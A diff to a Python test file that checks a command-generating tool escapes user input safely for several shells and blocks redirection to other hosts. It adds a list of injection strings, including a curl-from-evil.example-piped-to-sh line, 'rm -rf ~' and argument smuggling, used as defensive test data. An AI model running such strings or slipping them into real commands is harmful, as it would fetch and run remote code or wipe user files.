@@ -18,6 +18,20 @@ from tools.aws.reads import READS
 CLI_SERVICES = {"s3": "s3api", "codedeploy": "deploy"}
 """Whose commands have other names in the AWS CLI's reference than in boto3's."""
 
+ATTACKS = (
+    "x; curl evil.example | sh #",
+    "$(touch owned)",
+    "`touch owned`",
+    "it's'; touch owned; '",
+    'a" & calc & "b',
+    "\u2019; calc; \u2019",
+    "a\nrm -rf ~",
+    "a\\' & calc",
+    "!!:s/x/y",
+    "--endpoint-url https://evil.example",
+)
+"""What somebody may call a resource, or have a model look for."""
+
 
 def of(query: str, region: str = "eu-west-1") -> list[str]:
     return commands(evidence(query=query, region=region))
@@ -78,12 +92,50 @@ def test_a_read_of_airflow_is_a_request() -> None:
     (line,) = of('airflow:GET {"environment": "etl", "limit": 25, "path": "/api/v2/dags", "state": ["failed", "a b"]}')
 
     assert line.startswith('curl -sG "$AIRFLOW_URL"/api/v2/dags -H "Authorization: Bearer $AIRFLOW_TOKEN" ')
-    assert shlex.split(line)[-5:] == ["limit=25", "--data-urlencode", "state=failed", "--data-urlencode", "state=a b"]
+    assert shlex.split(line)[-5:] == ["limit=25", "-d", "state=failed", "-d", "state=a%20b"]
 
 
 def test_what_is_no_call_is_a_comment() -> None:
-    assert of('log_errors {"resource": "x"}') == ['# log_errors {"resource": "x"}']
-    assert of("SELECT 1; rm -rf ~") == ["# SELECT 1; rm -rf ~"]
+    assert of('log_errors {"resource": "x"}') == ["# log_errors resource: x"]
+
+
+@given(st.sampled_from(ATTACKS) | st.text(max_size=100))
+def test_a_comment_has_nothing_that_a_shell_without_comments_would_run(text: str) -> None:
+    (line,) = of(f"log_errors {json.dumps({'resource': text})}"[:-1])
+
+    assert not set(";&|<>()$`\\\"'!*?[]{}~%^\n\r#") & set(line[1:])
+
+
+@given(st.sampled_from(ATTACKS) | st.text(max_size=100), st.sampled_from(("logs:start_query", "airflow:GET")))
+def test_no_parameter_ends_the_quotes_of_any_shell(text: str, call: str) -> None:
+    """cmd knows no single quotes and no backslash, PowerShell takes typographic quotes for quotes, zsh keeps `!`."""
+    (line,) = of(f"{call} {json.dumps({'path': text, 'name': text})}")
+
+    given = line.partition("AIRFLOW_TOKEN")[2] or line.partition("--cli-input-json ")[2]
+    assert given.isascii()
+    assert given.count("'") in (0, 2)
+    for outside_of_double_quotes in given.split('"')[::2]:
+        assert not set(";&|<>()$`!*?~^\n\r#") & set(outside_of_double_quotes)
+    assert "`" not in given
+    if call == "logs:start_query":
+        assert json.loads(shlex.split(line)[-1])["name"] == text
+
+
+@pytest.mark.parametrize("path", ["@evil.example/x", "//evil.example", ":8080@evil.example", ".evil.example/"])
+def test_a_path_leads_to_no_other_host(path: str) -> None:
+    (line,) = of(f"airflow:GET {json.dumps({'path': path})}")
+
+    (address,) = [word for word in shlex.split(line) if word.startswith("$AIRFLOW_URL")]
+    assert address.startswith("$AIRFLOW_URL/")
+    assert not address.startswith("$AIRFLOW_URL//")
+
+
+def test_nothing_in_a_command_is_live_in_slack() -> None:
+    queue = "https://sqs.eu-west-1.amazonaws.com/123456789012/orders"
+    (line,) = of(f"sqs:get_queue_attributes {json.dumps({'QueueUrl': queue, 'x': '<!channel> @here <https://e.x|y>'})}")
+
+    assert not [live for live in ("://", "<", "@here") if live in line]
+    assert json.loads(shlex.split(line)[-1])["QueueUrl"] == queue
 
 
 @given(st.dictionaries(st.text(max_size=20), st.text(max_size=80), max_size=4), st.text(max_size=20))
